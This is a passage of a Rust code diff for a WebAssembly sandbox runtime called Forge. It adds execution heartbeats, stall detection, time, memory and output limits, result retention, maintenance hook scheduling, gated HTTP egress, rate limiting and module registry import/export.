+            // Execute in Spin sandbox (simplified implementation)
+            self.in_flight.write().await.insert(execution_id.clone(), InFlightExecution::new(&module.id));
+            // Errors are stringified so the future stays `Send` across the awaits below
+            let sandbox = async {
+                tokio::select! {
+                    result = self.execute_in_sandbox(&module, &blob_hash, &input, &execution_id, sink) => result.map_err(|e| e.to_string()),
+                    _ = streaming::cancelled(sink) => {
+                        warn!("🛑 Execution {} aborted", execution_id);
+                        Err(streaming::CANCELLED.to_string())
+                    }
+                }
+            };
+            let time_limit = Duration::from_millis(module.max_execution_time_ms.min(self.security_policy.max_execution_time_ms));
+            let outcome = tokio::time::timeout(time_limit, self.watch_heartbeats(&execution_id, sandbox)).await;
+            self.in_flight.write().await.remove(&execution_id);
 
-        // Execute in Spin sandbox (simplified implementation)
-        let result = self.execute_in_sandbox(module, &input, &execution_id).await?;
+            match outcome {
+                Ok(Ok(result)) => self.enforce_output_limit(&execution_id, self.enforce_memory_limit(&module, &execution_id, result)),
+                Ok(Err(e)) => {
+                    self.record_metrics(&module.id, false, start_time.elapsed(), 0);
+                    self.audit.record(attempt.failed(Some(&execution_id), &e));
+                    return Err(e.into());
+                }
+                Err(_) => {
+                    warn!("⏰ Execution {} exceeded its {}ms limit", execution_id, time_limit.as_millis());
+                    SandboxResult {
+                        is_success: false,
+                        output: serde_json::json!({"error": format!("Execution exceeded {}ms time limit", time_limit.as_millis())}),
+                        memory_used_kb: 0,
+                        security_violations: vec!["timeout".to_string()],
+                        stdio: None,
+                        resources: ResourceReport::default(),
+                    }
+                }
+            }
+        };
 
         let execution_time = start_time.elapsed();
         let result = ExecutionResult {
             execution_id: execution_id.clone(),
+            module_id: module.id.clone(),
+            module_version: module.version.clone(),
             success: result.is_success,
             output: result.output,
             execution_time_ms: execution_time.as_millis() as u64,
             memory_used_kb: result.memory_used_kb,
             security_violations: result.security_violations,
+            input_violations,
             timestamp: chrono::Utc::now(),
+            kind,
+            trace_id: trace.map(|trace| trace.trace_id),
+            stdio: result.stdio,
+            blob_hash,
+            policy_snapshot_id: self.policy_snapshot_id.clone(),
+            replay_of,
+            resources: result.resources,
         };
 
-        // Store execution result
-        let mut executions = self.active_executions.write().await;
-        executions.insert(execution_id, result.clone());
+        self.record_metrics(&module.id, result.success, execution_time, result.memory_used_kb);
+        self.record_capability_calls(&module.id, &result.resources);
 
+        // Store execution result, dropping results past retention
+        let evicted = {
+            let mut executions = self.active_executions.write().await;
+            executions.insert(execution_id, result.clone());
+            self.pins.lock().unwrap().pin(&result, input);
+            self.prune_results(&mut executions)
+        };
+        self.archive(evicted);
+
+        self.audit.record(attempt.completed(&result));
         info!("✅ Execution completed: {} ({}ms)", module.name, execution_time.as_millis());
 
         Ok(result)
     }
 
+    /// Heartbeat host function: record liveness of an in-flight execution,
+    /// optionally with a small progress payload surfaced as a `ForgeEvent`
+    pub async fn heartbeat(&self, execution_id: &str, progress: Option<serde_json::Value>) -> Result<(), Box<dyn std::error::Error>> {
+        if let Some(progress) = &progress {
+            let size = serde_json::to_vec(progress)?.len();
+            if size > heartbeat::MAX_PROGRESS_BYTES {
+                return Err(format!("Heartbeat progress too large: {} bytes (max {})", size, heartbeat::MAX_PROGRESS_BYTES).into());
+            }
+        }
+
+        let module_id = {
+            let mut in_flight = self.in_flight.write().await;
+            let execution = in_flight.get_mut(execution_id)
+                .ok_or_else(|| format!("Execution {} is not in flight", execution_id))?;
+            execution.beat(progress.clone());
+            execution.module_id.clone()
+        };
+
+        let _ = self.events.send(ForgeEvent::Heartbeat {
+            execution_id: execution_id.to_string(),
+            module_id,
+            progress,
+        });
+        Ok(())
+    }
+
+    /// Running and queued execution counts, with the liveness of each in-flight execution
+    pub async fn execution_stats(&self) -> ConcurrencyStats {
+        let modules = self.execution_slots.counts();
+        let executions = self.in_flight.read().await
+            .iter()
+            .map(|(execution_id, execution)| execution.status(execution_id))
+            .collect();
+
+        ConcurrencyStats {
+            in_flight: modules.values().map(|counts| counts.in_flight).sum(),
+            queued: modules.values().map(|counts| counts.queued).sum(),
+            modules,
+            tenants: self.execution_slots.tenant_stats(),
+            executions,
+            capabilities: self.capability_slos.lock().unwrap().status(Instant::now()),
+        }
+    }
+
+    /// Drive an execution while checking its heartbeat staleness. Stalled
+    /// executions are flagged, and terminated if the policy says so.
+    async fn watch_heartbeats<F>(&self, execution_id: &str, execution: F) -> Result<SandboxResult, String>
+    where
+        F: std::future::Future<Output = Result<SandboxResult, String>>,
+    {
+        let Some(staleness) = self.security_policy.heartbeat_staleness_ms.map(Duration::from_millis) else {
+            return execution.await;
+        };
+
+        tokio::pin!(execution);
+        let mut check = tokio::time::interval((staleness / 4).max(Duration::from_millis(1)));
+
+        loop {
+            tokio::select! {
+                result = &mut execution => return result,
+                _ = check.tick() => {
+                    if self.check_stalled(execution_id, staleness).await && self.security_policy.terminate_stalled {
+                        warn!("💀 Terminating stalled execution: {}", execution_id);
+                        return Err("execution_stalled".to_string());
+                    }
+                }
+            }
+        }
+    }
+
+    /// Update the stalled flag of an execution, emitting an event on the
+    /// transition. Returns whether the execution is currently stalled.
+    async fn check_stalled(&self, execution_id: &str, staleness: Duration) -> bool {
+        let mut in_flight = self.in_flight.write().await;
+        let Some(execution) = in_flight.get_mut(execution_id) else {
+            return false;
+        };
+
+        if execution.check_stalled(staleness) {
+            let since_heartbeat_ms = execution.last_heartbeat.elapsed().as_millis() as u64;
+            warn!("🫀 Execution {} stalled: no heartbeat for {}ms", execution_id, since_heartbeat_ms);
+            let _ = self.events.send(ForgeEvent::ExecutionStalled {
+                execution_id: execution_id.to_string(),
+                module_id: execution.module_id.clone(),
+                since_heartbeat_ms,
+            });
+        }
+        execution.state == ExecutionState::Stalled
+    }
+
+    /// Remove results older than the retention window, then the oldest results
+    /// beyond `max_results`, returning what was removed
+    fn prune_results(&self, executions: &mut HashMap<String, ExecutionResult>) -> Vec<ExecutionResult> {
+        let cutoff = chrono::Utc::now() - self.result_retention;
+        let mut expired: Vec<String> = executions.values()
+            .filter(|existing| existing.timestamp < cutoff)
+            .map(|existing| existing.execution_id.clone())
+            .collect();
+
+        let overflow = executions.len().saturating_sub(expired.len()).saturating_sub(self.max_results);
+        if overflow > 0 {
+            let mut retained: Vec<&ExecutionResult> = executions.values()
+                .filter(|existing| existing.timestamp >= cutoff)
+                .collect();
+            retained.sort_by_key(|existing| existing.timestamp);
+            expired.extend(retained.into_iter().take(overflow).map(|existing| existing.execution_id.clone()));
+        }
+
+        expired.iter().filter_map(|id| executions.remove(id)).collect()
+    }
+
+    /// Unpin what removed results referenced and pass them to the eviction
+    /// sink, if one is configured
+    fn archive(&self, results: Vec<ExecutionResult>) {
+        {
+            let mut pins = self.pins.lock().unwrap();
+            results.iter().for_each(|result| pins.release(result));
+        }
+        if let Some(sink) = &self.eviction_sink {
+            results.into_iter().for_each(|result| sink(result));
+        }
+    }
+
+    /// Evict execution results past the retention window or count
+    pub async fn gc_results(&self) -> usize {
+        let evicted = {
+            let mut executions = self.active_executions.write().await;
+            self.prune_results(&mut executions)
+        };
+        let count = evicted.len();
+        if count > 0 {
+            info!("🧹 Evicted {} expired execution results", count);
+        }
+        self.archive(evicted);
+        count
+    }
+
+    /// Remove all retained results of a module, returning how many were removed
+    pub async fn purge_executions(&self, module_id: &str) -> usize {
+        let purged: Vec<ExecutionResult> = {
+            let mut executions = self.active_executions.write().await;
+            let ids: Vec<String> = executions.values()
+                .filter(|existing| existing.module_id == module_id)
+                .map(|existing| existing.execution_id.clone())
+                .collect();
+            ids.iter().filter_map(|id| executions.remove(id)).collect()
+        };
+        let count = purged.len();
+        info!("🧹 Purged {} execution results of module {}", count, module_id);
+        self.archive(purged);
+        count
+    }
+
+    /// Start a background task running `gc_results` every `interval`, so
+    /// results expire even when no new executions arrive
+    pub fn start_result_gc(&self, interval: Duration) -> tokio::task::JoinHandle<()> {
+        let forge = self.clone();
+        tokio::spawn(async move {
+            let mut interval = tokio::time::interval(interval);
+            loop {
+                interval.tick().await;
+                forge.gc_results().await;
+            }
+        })
+    }
+
+    /// Record a finished execution in the aggregate metrics and the health failure window
+    fn record_metrics(&self, module_id: &str, success: bool, execution_time: Duration, memory_used_kb: u64) {
+        self.metrics.lock().unwrap()
+            .record(module_id, success, execution_time.as_millis() as u64, memory_used_kb);
+        self.failure_window.lock().unwrap().record(success);
+    }
+
+    /// Feed an execution's host capability calls to the SLO tracker, raising
+    /// and clearing burn-rate alerts
+    fn record_capability_calls(&self, module_id: &str, resources: &ResourceReport) {
+        let transitions = self.capability_slos.lock().unwrap()
+            .record_http(module_id, &resources.http_requests, Instant::now());
+        for transition in transitions {
+            let event = match transition {
+                SloTransition::Fired(alert) => {
+                    let modules: Vec<&str> = alert.top_modules.iter().map(|o| o.module_id.as_str()).collect();
+                    warn!(
+                        "🔥 Capability '{}' {:?} burn rate {:.1} over {} (top modules: {})",
+                        alert.capability, alert.window, alert.burn_rate, alert.threshold, modules.join(", ")
+                    );
+                    ForgeEvent::CapabilitySloAlert(alert)
+                }
+                SloTransition::Cleared { capability, window, burn_rate } => {
+                    info!("✅ Capability '{}' {:?} burn rate back to {:.1}", capability, window, burn_rate);
+                    ForgeEvent::CapabilitySloCleared { capability, window, burn_rate }
+                }
+            };
+            let _ = self.events.send(event);
+        }
+    }
+
+    /// Acquire an execution slot according to the policy's overflow mode
+    async fn acquire_execution_slot(&self, module_id: &str, tenant: &str) -> Result<SlotPermit, SlotError> {
+        let policy = AdmissionPolicy {
+            overflow_mode: self.security_policy.overflow_mode,
+            grace: Duration::from_millis(self.security_policy.capacity_grace_ms),
+            max_queue_depth: self.security_policy.max_queue_depth,
+        };
+
+        self.execution_slots.acquire(module_id, tenant, policy).await.inspect_err(|e| match e {
+            SlotError::AtCapacity => warn!("🚦 No execution slot for {} within {}ms", module_id, policy.grace.as_millis()),
+            SlotError::Exhausted { .. } => warn!("🚦 Rejected execution of {}: {}", module_id, e),
+        })
+    }
+
     /// Execute module in Spin sandbox (simplified implementation)
     async fn execute_in_sandbox(
         &self,
         module: &WasmModule,
+        blob_hash: &str,
         input: &serde_json::Value,
         execution_id: &str,
+        sink: Option<&EventSink>,
     ) -> Result<SandboxResult, Box<dyn std::error::Error>> {
+        let _instance = self.warm_instance(module, blob_hash)?;
+        #[cfg(feature = "wasmtime")]
+        if let Some(prepared) = _instance.prepared {
+            return self.execute_in_wasmtime(module, prepared, input, execution_id).await;
+        }
+
         // This is a simplified implementation
         // In production, this would use the actual Spin SDK
 
@@ -135,11 +1206,31 @@ impl Forge {
             _ => std::time::Duration::from_millis(100),
         };
 
-        tokio::time::sleep(execution_delay).await;
+        streaming::report_progress(self.simulate_work(input, execution_id, execution_delay), execution_delay, sink).await;
 
-        // Simulate different execution outcomes based on input
-        let (is_success, output, memory_used, violations) = match input.get("command") {
-            Some(serde_json::Value::String(cmd)) if cmd == "malicious" => {
+        // Inputs may write to stdio, captured when the module's profile allows it
+        let mut wasi = self.security_policy.wasi.context(module.sandbox_profile())?;
+        if self.security_policy.wasi.allowed(module.sandbox_profile())?.contains(&WasiInterface::Stdio) {
+            for (key, pipe) in [("stdout", &mut wasi.stdout), ("stderr", &mut wasi.stderr)] {
+                if let Some(text) = input.get(key).and_then(|v| v.as_str()) {
+                    pipe.write(text.as_bytes());
+                    if let Some(sink) = sink {
+                        text.lines().for_each(|line| sink.send(ExecutionEvent::Log(line.to_string())));
+                    }
+                }
+            }
+        }
+
+        // Inputs may make HTTP requests, sent when the module and its profile grant `http`
+        let mut egress = self.http_egress(module)?;
+        let mut http_responses = Vec::new();
+        for request in input.get("http_requests").and_then(|v| v.as_array()).into_iter().flatten() {
+            http_responses.push(egress.handle(&serde_json::to_vec(request)?).await);
+        }
+
+        // Simulate different execution outcomes based on input
+        let (is_success, mut output, memory_used, violations) = match input.get("command") {
+            Some(serde_json::Value::String(cmd)) if cmd == "malicious" => {
                 warn!("🚨 Security violation detected in execution: {}", execution_id);
                 (false, serde_json::json!({"error": "Security violation detected"}), 1024, vec!["malicious_command".to_string()])
             }
@@ -156,16 +1247,180 @@ impl Forge {
             }
         };
 
+        // Inputs may report their own memory use
+        let memory_used = input.get("memory_mb").and_then(|v| v.as_u64()).map_or(memory_used, |mb| mb * 1024);
+        if !http_responses.is_empty() {
+            output["http_responses"] = serde_json::Value::Array(http_responses);
+        }
+        // Inputs may ask for an output padded to a size
+        if let Some(bytes) = input.get("output_bytes").and_then(|v| v.as_u64()) {
+            output["payload"] = serde_json::Value::String("x".repeat(bytes as usize));
+        }
+
         Ok(SandboxResult {
             is_success,
             output,
             memory_used_kb: memory_used,
             security_violations: violations,
+            stdio: wasi.into_stdio(),
+            resources: egress.into_report(),
+        })
+    }
+
+    /// Warm instance of a module version, prepared on a pool miss
+    fn warm_instance(&self, module: &WasmModule, blob_hash: &str) -> Result<WarmInstance, Box<dyn std::error::Error>> {
+        if let Some(instance) = self.warm_pool.lock().unwrap().checkout(&module.id, &module.version, blob_hash) {
+            return Ok(instance);
+        }
+        let instance = self.prepare_instance(blob_hash)?;
+        self.warm_pool.lock().unwrap().insert(&module.id, &module.version, instance.clone());
+        Ok(instance)
+    }
+
+    /// Link a blob for instantiation; only wasmtime binaries have anything to prepare
+    fn prepare_instance(&self, blob_hash: &str) -> Result<WarmInstance, Box<dyn std::error::Error>> {
+        Ok(WarmInstance {
+            blob_hash: blob_hash.to_string(),
+            #[cfg(feature = "wasmtime")]
+            prepared: if self.executor.contains(blob_hash) {
+                Some(self.executor.prepare(blob_hash)?)
+            } else {
+                None
+            },
+        })
+    }
+
+    /// Execute a module binary with wasmtime under the module and policy limits
+    #[cfg(feature = "wasmtime")]
+    async fn execute_in_wasmtime(
+        &self,
+        module: &WasmModule,
+        prepared: executor::PreparedModule,
+        input: &serde_json::Value,
+        execution_id: &str,
+    ) -> Result<SandboxResult, Box<dyn std::error::Error>> {
+        let limits = executor::ExecutionLimits {
+            memory_bytes: module.max_memory_mb.min(self.security_policy.max_memory_mb) as usize * 1024 * 1024,
+            fuel: self.security_policy.max_fuel,
+            time_limit: Duration::from_millis(module.max_execution_time_ms.min(self.security_policy.max_execution_time_ms)),
+        };
+        let wasi = self.security_policy.wasi.context(module.sandbox_profile())?;
+        let egress = self.http_egress(module)?;
+        let executor = self.executor.clone();
+        let input = input.clone();
+        let heartbeat = self.heartbeat_sink(execution_id);
+
+        let outcome = tokio::task::spawn_blocking(move || executor.execute_prepared(&prepared, &input, limits, wasi, egress, Some(heartbeat))).await??;
+        for violation in &outcome.security_violations {
+            warn!("🚨 Execution {} stopped by the sandbox: {}", execution_id, violation);
+        }
+
+        Ok(SandboxResult {
+            is_success: outcome.success,
+            output: outcome.output,
+            memory_used_kb: outcome.peak_memory_bytes as u64 / 1024,
+            security_violations: outcome.security_violations,
+            stdio: outcome.wasi.into_stdio(),
+            resources: outcome.resources,
         })
     }
 
-    /// Validate module against security policy
+    /// Route `forge::heartbeat` calls of an execution to `Forge::heartbeat`
+    #[cfg(feature = "wasmtime")]
+    fn heartbeat_sink(&self, execution_id: &str) -> executor::HeartbeatSink {
+        let forge = self.clone();
+        let execution_id = execution_id.to_string();
+        let runtime = tokio::runtime::Handle::current();
+        Arc::new(move |progress| {
+            runtime.block_on(forge.heartbeat(&execution_id, progress)).map_err(|e| {
+                warn!("🫀 Heartbeat of execution {} refused: {}", execution_id, e);
+                e.to_string()
+            })
+        })
+    }
+
+    /// Outbound HTTP state for an execution, granted when both the module and
+    /// its sandbox profile allow `http`
+    fn http_egress(&self, module: &WasmModule) -> Result<HttpEgress, WasiError> {
+        let granted = module.capabilities.iter().any(|c| c == egress::HTTP_CAPABILITY)
+            && self.security_policy.wasi.allowed(module.sandbox_profile())?.contains(&WasiInterface::Http);
+        Ok(HttpEgress::new(&self.security_policy.egress, granted))
+    }
+
+    /// Fail a sandbox result whose memory use exceeds the module or policy limit
+    fn enforce_memory_limit(&self, module: &WasmModule, execution_id: &str, mut result: SandboxResult) -> SandboxResult {
+        let limit_kb = u64::from(module.max_memory_mb.min(self.security_policy.max_memory_mb)) * 1024;
+        if result.memory_used_kb <= limit_kb {
+            return result;
+        }
+
+        warn!("🧠 Execution {} used {}KB, over its {}KB limit", execution_id, result.memory_used_kb, limit_kb);
+        result.is_success = false;
+        result.output = serde_json::json!({
+            "error": format!("Execution used {}KB, exceeding {}KB memory limit", result.memory_used_kb, limit_kb)
+        });
+        result.security_violations.push("memory_limit".to_string());
+        result
+    }
+
+    /// Truncate or fail a sandbox result whose output is over the policy's size
+    /// limit, so oversized outputs are never retained or returned
+    fn enforce_output_limit(&self, execution_id: &str, mut result: SandboxResult) -> SandboxResult {
+        let original_size = serde_json::to_vec(&result.output).map_or(0, |output| output.len());
+        let limit = self.security_policy.max_output_bytes;
+        if original_size <= limit {
+            return result;
+        }
+
+        match self.security_policy.output_overflow {
+            OutputOverflow::Truncate => {
+                warn!("📏 Truncated {}-byte output of execution {} (limit {} bytes)", original_size, execution_id, limit);
+                result.output = serde_json::json!({"truncated": true, "original_size": original_size});
+                result.security_violations.push("output_truncated".to_string());
+            }
+            OutputOverflow::Reject => {
+                warn!("📏 Rejected {}-byte output of execution {} (limit {} bytes)", original_size, execution_id, limit);
+                result.is_success = false;
+                result.output = serde_json::json!({
+                    "error": format!("Output of {} bytes exceeds {}-byte limit", original_size, limit)
+                });
+                result.security_violations.push("output_too_large".to_string());
+            }
+        }
+        result
+    }
+
+    /// Simulate module work, emitting heartbeats every `heartbeat_ms` until
+    /// `stall_after_ms` (if given) when the input asks for them
+    async fn simulate_work(&self, input: &serde_json::Value, execution_id: &str, duration: Duration) {
+        let heartbeat_every = input.get("heartbeat_ms").and_then(|v| v.as_u64()).map(Duration::from_millis);
+        let stall_after = input.get("stall_after_ms").and_then(|v| v.as_u64()).map(Duration::from_millis);
+
+        let Some(every) = heartbeat_every.filter(|every| !every.is_zero()) else {
+            tokio::time::sleep(duration).await;
+            return;
+        };
+
+        let started = Instant::now();
+        while started.elapsed() < duration {
+            tokio::time::sleep(every.min(duration.saturating_sub(started.elapsed()))).await;
+
+            let elapsed = started.elapsed();
+            if stall_after.is_none_or(|stall_after| elapsed < stall_after) {
+                let progress = serde_json::json!({"elapsed_ms": elapsed.as_millis() as u64});
+                let _ = self.heartbeat(execution_id, Some(progress)).await;
+            }
+        }
+    }
+
     async fn validate_module(&self, module: &WasmModule) -> Result<(), Box<dyn std::error::Error>> {
+        let outcome = self.check_module_policy(module);
+        self.audit.record(AuditEvent::module_validation(module, &outcome));
+        outcome
+    }
+
+    /// Check module limits, capabilities and hooks against the security policy
+    fn check_module_policy(&self, module: &WasmModule) -> Result<(), Box<dyn std::error::Error>> {
         // Check memory limits
         if module.max_memory_mb > self.security_policy.max_memory_mb {
             return Err(format!("Module memory limit {}MB exceeds policy limit {}MB",
@@ -185,28 +1440,67 @@ impl Forge {
             }
         }
 
+        // Check the sandbox profile exists
+        self.security_policy.wasi.allowed(module.sandbox_profile())?;
+
+        if let Some(limit) = &module.rate_limit {
+            limit.validate()?;
+        }
+
+        // Check maintenance hooks: overrides may only tighten module limits
+        let mut hook_names = std::collections::HashSet::new();
+        for hook in &module.maintenance_hooks {
+            if !hook_names.insert(hook.name.as_str()) {
+                return Err(format!("Duplicate maintenance hook '{}'", hook.name).into());
+            }
+            if hook.interval_ms == 0 {
+                return Err(format!("Maintenance hook '{}' has a zero interval", hook.name).into());
+            }
+            if hook.max_memory_mb.is_some_and(|mb| mb > module.max_memory_mb) {
+                return Err(format!("Maintenance hook '{}' raises the module memory limit", hook.name).into());
+            }
+            if hook.max_execution_time_ms.is_some_and(|ms| ms > module.max_execution_time_ms) {
+                return Err(format!("Maintenance hook '{}' raises the module execution time limit", hook.name).into());
+            }
+        }
+
         Ok(())
     }
 
-    /// Validate execution against security policy
+    /// Validate execution against security policy, recording each decision on the attempt.
+    ///
+    /// Refused input does not fail validation; its violations are returned and
+    /// the execution is reported as failed.
     async fn validate_execution(
         &self,
         module: &WasmModule,
         input: &serde_json::Value,
-    ) -> Result<(), Box<dyn std::error::Error>> {
-        // Check for malicious patterns in input
-        if let Some(input_str) = input.get("command").and_then(|v| v.as_str()) {
-            if input_str.contains("malicious") || input_str.contains("exploit") {
-                return Err("Malicious command detected in input".into());
-            }
+        attempt: &mut audit::Attempt,
+    ) -> Result<Vec<InputViolation>, Box<dyn std::error::Error>> {
+        let violations = self.input_validator.validate(input);
+        if !violations.is_empty() {
+            let rules: Vec<&str> = violations.iter().map(|v| v.rule_id.as_str()).collect();
+            attempt.deny(audit::CHECK_INPUT_VALIDATION, format!("Input broke rules: {}", rules.join(", ")));
+            return Ok(violations);
         }
+        attempt.allow(audit::CHECK_INPUT_VALIDATION);
 
-        // Additional security checks would go here
-        // - Input size validation
-        // - Rate limiting per module
-        // - Resource usage monitoring
+        if let Err(limited) = self.rate_limits.lock().unwrap().check(&module.id) {
+            warn!("🚥 Rejected execution of {}: {}", module.id, limited);
+            attempt.deny(audit::CHECK_RATE_LIMIT, &limited);
+            return Err(limited.into());
+        }
+        attempt.allow(audit::CHECK_RATE_LIMIT);
 
-        Ok(())
+        Ok(Vec::new())
+    }
+
+    /// Check a module binary's WASI imports against its sandbox profile before instantiation
+    pub fn link_wasi(&self, module: &WasmModule, wasm: &[u8]) -> Result<WasiContext, Box<dyn std::error::Error>> {
+        self.security_policy.wasi.link(module.sandbox_profile(), wasm).map_err(|e| {
+            warn!("🚫 Module {} cannot be linked: {}", module.id, e);
+            e.into()
+        })
     }
 
     /// Get execution result by ID
@@ -214,6 +1508,25 @@ impl Forge {
         self.active_executions.read().await.get(execution_id).cloned()
     }
 
+    /// Retained results of a module, newest first, at most `limit` and
+    /// optionally only those recorded at or after `since`
+    pub async fn list_executions(
+        &self,
+        module_id: &str,
+        limit: usize,
+        since: Option<chrono::DateTime<chrono::Utc>>,
+    ) -> Vec<ExecutionResult> {
+        let mut results: Vec<ExecutionResult> = self.active_executions.read().await
+            .values()
+            .filter(|result| result.module_id == module_id)
+            .filter(|result| since.is_none_or(|since| result.timestamp >= since))
+            .cloned()
+            .collect();
+        results.sort_by_key(|result| std::cmp::Reverse(result.timestamp));
+        results.truncate(limit);
+        results
+    }
+
     /// List all loaded modules
     pub async fn list_modules(&self) -> Vec<WasmModule> {
         self.modules.read().await.values().cloned().collect()
@@ -224,8 +1537,120 @@ impl Forge {
         self.modules.read().await.get(module_id).cloned()
     }
 
+    /// Describe a module, including the status of its maintenance hooks
+    pub async fn describe(&self, module_id: &str) -> Option<ModuleDescription> {
+        let module = self.get_module(module_id).await?;
+        let mut hooks: Vec<HookStatus> = self.hooks.read().await
+            .get(module_id)
+            .map(|states| states.values().map(|state| state.status.clone()).collect())
+            .unwrap_or_default();
+        hooks.sort_by(|a, b| a.name.cmp(&b.name));
+
+        let capabilities = self.capability_slos.lock().unwrap().module_usage(module_id);
+
+        Some(ModuleDescription { module, hooks, capabilities })
+    }
+
+    /// Start the embedded maintenance scheduler, checking for due hooks every `tick`
+    pub fn start_maintenance_scheduler(&self, tick: Duration) -> tokio::task::JoinHandle<()> {
+        let forge = self.clone();
+        tokio::spawn(async move {
+            let mut interval = tokio::time::interval(tick);
+            loop {
+                interval.tick().await;
+                forge.run_due_hooks().await;
+            }
+        })
+    }
+
+    /// Run a single scheduling pass: start every due, enabled hook that is not
+    /// already running. Due hooks whose previous run is still active are skipped.
+    pub async fn run_due_hooks(&self) {
+        let now = Instant::now();
+        let mut due = Vec::new();
+
+        {
+            let mut hooks = self.hooks.write().await;
+            for (module_id, states) in hooks.iter_mut() {
+                for state in states.values_mut() {
+                    if !state.status.enabled || now < state.next_run {
+                        continue;
+                    }
+                    state.next_run = now + state.hook.interval();
+
+                    if state.status.running {
+                        state.status.skipped_overlaps += 1;
+                        warn!("⏭️ Skipping maintenance hook {}::{} - previous run still active",
+                            module_id, state.hook.name);
+                        continue;
+                    }
+
+                    state.status.running = true;
+                    due.push((module_id.clone(), state.hook.clone()));
+                }
+            }
+        }
+
+        for (module_id, hook) in due {
+            let forge = self.clone();
+            tokio::spawn(async move {
+                forge.run_hook(&module_id, hook).await;
+            });
+        }
+    }
+
+    /// Execute a single maintenance hook and record its outcome
+    async fn run_hook(&self, module_id: &str, hook: MaintenanceHook) {
+        let Some(module) = self.get_module(module_id).await else {
+            return;
+        };
+        let time_limit = hook.max_execution_time_ms
+            .unwrap_or(module.max_execution_time_ms)
+            .min(module.max_execution_time_ms);
+
+        info!("🛠️ Running maintenance hook {}::{} ({})", module_id, hook.name, hook.export);
+
+        let outcome = match tokio::time::timeout(
+            Duration::from_millis(time_limit),
+            self.execute_with_kind(module, hook.input.clone(), ExecutionKind::Maintenance, None, None, None, None),
+        ).await {
+            Ok(Ok(result)) if result.success => Ok(()),
+            Ok(Ok(result)) => Err(format!("Execution failed: {:?}", result.security_violations)),
+            Ok(Err(e)) => Err(e.to_string()),
+            Err(_) => Err(format!("Timed out after {}ms", time_limit)),
+        };
+
+        let mut hooks = self.hooks.write().await;
+        let Some(state) = hooks.get_mut(module_id).and_then(|states| states.get_mut(&hook.name)) else {
+            return;
+        };
+
+        if let Err(reason) = &outcome {
+            warn!("🛠️ Maintenance hook {}::{} failed: {}", module_id, hook.name, reason);
+        }
+
+        if state.record_outcome(outcome) {
+            error!("🛠️ Disabled maintenance hook {}::{} after {} consecutive failures",
+                module_id, hook.name, state.status.consecutive_failures);
+            let _ = self.events.send(ForgeEvent::HookDisabled {
+                module_id: module_id.to_string(),
+                hook: hook.name.clone(),
+                consecutive_failures: state.status.consecutive_failures,
+                last_error: state.status.last_error.clone(),
+            });
+        }
+    }
+
     /// Unload a module
     pub async fn unload_module(&self, module_id: &str) -> Result<(), Box<dyn std::error::Error>> {
+        self.hooks.write().await.remove(module_id);
+        self.warm_pool.lock().unwrap().remove(module_id, None);
+        self.rate_limits.lock().unwrap().set(module_id, None);
+        let versions = self.module_versions.write().await.remove(module_id);
+        for module in versions.into_iter().flatten() {
+            self.release_version(&module);
+        }
+
         let mut modules = self.modules.write().await;
         if modules.remove(module_id).is_some() {
             info!("🔥 Unloaded WASM module: {}", module_id);
@@ -235,15 +1660,156 @@ impl Forge {
         }
     }
 
+    /// Export every retained module version with the default versions and
+    /// the rate limits changed at runtime
+    pub async fn export_registry(&self) -> RegistrySnapshot {
+        let versions = self.module_versions.read().await;
+        let mut module_ids: Vec<&String> = versions.keys().collect();
+        module_ids.sort();
+        let modules = module_ids.into_iter().flat_map(|id| versions[id].iter().cloned()).collect();
+
+        let defaults = self.modules.read().await;
+        let rate_limits = self.rate_limits.lock().unwrap();
+        RegistrySnapshot {
+            exported_at: chrono::Utc::now(),
+            modules,
+            default_versions: defaults.iter().map(|(id, module)| (id.clone(), module.version.clone())).collect(),
+            rate_limit_overrides: defaults.iter()
+                .filter_map(|(id, module)| {
+                    let limit = rate_limits.get(id);
+                    (limit != module.rate_limit).then(|| (id.clone(), RateLimitOverride { limit }))
+                })
+                .collect(),
+        }
+    }
+
+    /// Load the modules of a snapshot, checking each against the security
+    /// policy. A module that fails is reported and the rest are still loaded.
+    /// Versions already loaded with the same metadata are kept as they are,
+    /// so merging does not drop their binaries.
+    pub async fn import_registry(&self, snapshot: RegistrySnapshot, mode: ImportMode) -> ImportReport {
+        if mode == ImportMode::Replace {
+            for module in self.list_modules().await {
+                let _ = self.unload_module(&module.id).await;
+            }
+        }
+
+        let mut report = ImportReport::default();
+        for module in snapshot.modules {
+            let loaded = self.get_module_version(&module.id, &module.version).await;
+            if loaded.is_some_and(|loaded| serde_json::to_value(&loaded).ok() == serde_json::to_value(&module).ok()) {
+                report.modules.push(ModuleImport::loaded(&module));
+                continue;
+            }
+            let outcome = match self.load_module(module.clone()).await {
+                Ok(()) => ModuleImport::loaded(&module),
+                Err(e) => ModuleImport::failed(&module, e),
+            };
+            report.modules.push(outcome);
+        }
+
+        for (module_id, version) in &snapshot.default_versions {
+            if self.get_module_version(module_id, version).await.is_some() {
+                let _ = self.set_default_version(module_id, version).await;
+            }
+        }
+        for (module_id, rate_limit) in snapshot.rate_limit_overrides {
+            if let Err(e) = self.set_module_rate_limit(&module_id, rate_limit.limit).await {
+                warn!("🚥 Rate limit override of module {} not imported: {}", module_id, e);
+            }
+        }
+
+        info!("📦 Imported {} of {} module version(s)", report.loaded(), report.modules.len());
+        for failed in report.failed() {
+            warn!("📦 Module {} v{} not imported: {}", failed.module_id, failed.version, failed.error.as_deref().unwrap_or_default());
+        }
+        report
+    }
+
+    /// Load every `*.module.json` descriptor in `dir`, together with the
+    /// `.wasm` file of the same name when there is one. Descriptors that
+    /// cannot be read or loaded are reported without stopping the rest.
+    pub async fn load_modules_from_dir(&self, dir: impl AsRef<std::path::Path>) -> Result<ImportReport, Box<dyn std::error::Error>> {
+        let mut report = ImportReport::default();
+        for (descriptor, wasm) in registry::module_descriptors(dir.as_ref())? {
+            let parsed = tokio::fs::read(&descriptor).await
+                .map_err(|e| e.to_string())
+                .and_then(|bytes| serde_json::from_slice::<WasmModule>(&bytes).map_err(|e| e.to_string()));
+            let module = match parsed {
+                Ok(module) => module,
+                Err(e) => {
+                    warn!("📦 Invalid module descriptor {}: {}", descriptor.display(), e);
+                    report.modules.push(ModuleImport {
+                        module_id: String::new(),
+                        version: String::new(),
+                        source: Some(descriptor),
+                        error: Some(format!("Invalid descriptor: {}", e)),
+                    });
+                    continue;
+                }
+            };
+
+            let outcome = match self.load_module_file(module.clone(), wasm.as_deref()).await {
+                Ok(()) => ModuleImport::loaded(&module),
+                Err(e) => ModuleImport::failed(&module, e),
+            };
+            report.modules.push(outcome.with_source(&descriptor));
+        }
+
+        info!("📦 Loaded {} of {} module(s) from {}", report.loaded(), report.modules.len(), dir.as_ref().display());
+        Ok(report)
+    }
